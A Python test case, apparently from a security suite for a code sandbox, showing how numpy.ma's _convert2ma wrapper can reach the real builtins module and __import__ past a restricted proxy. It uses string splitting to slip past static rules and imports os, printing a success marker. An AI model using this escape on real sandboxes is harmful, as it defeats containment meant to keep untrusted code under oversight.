# (data policy) numpy.ma's function wrappers resolve a NAME on the real numpy module with the
# real getattr: _convert2ma(funcname, np_ret, np_ma_ret) does `self._func = getattr(np,
# funcname)`, and type(np.ma.arange) is that class, constructible by the job. The real numpy
# module holds private attributes the proxy never shows (_builtins is the real builtins module,
# compat, ctypeslib, core.overrides.os, ...); the result is kept as the plain, non-dunder
# attribute `_func`, which neither the static rules (it is no module's attribute) nor the
# guard's getattr refuse. The getdoc() step needs np_ret to occur in the target's __doc__:
# "" always does. From the real builtins module, vars() gives the real __import__.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "139_numpy_ma_convert2ma_module_attr"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import numpy as np

Convert = type(np.ma.arange)  # numpy.ma.core._convert2ma
real_builtins = Convert("_builtins", "", "")._func
namespace = getattr(real_builtins, "vars")(real_builtins)
real_os = namespace["__imp" + "ort__"]("os")
won("%s %s pid=%s" % (real_builtins, real_os, real_os.getpid()))
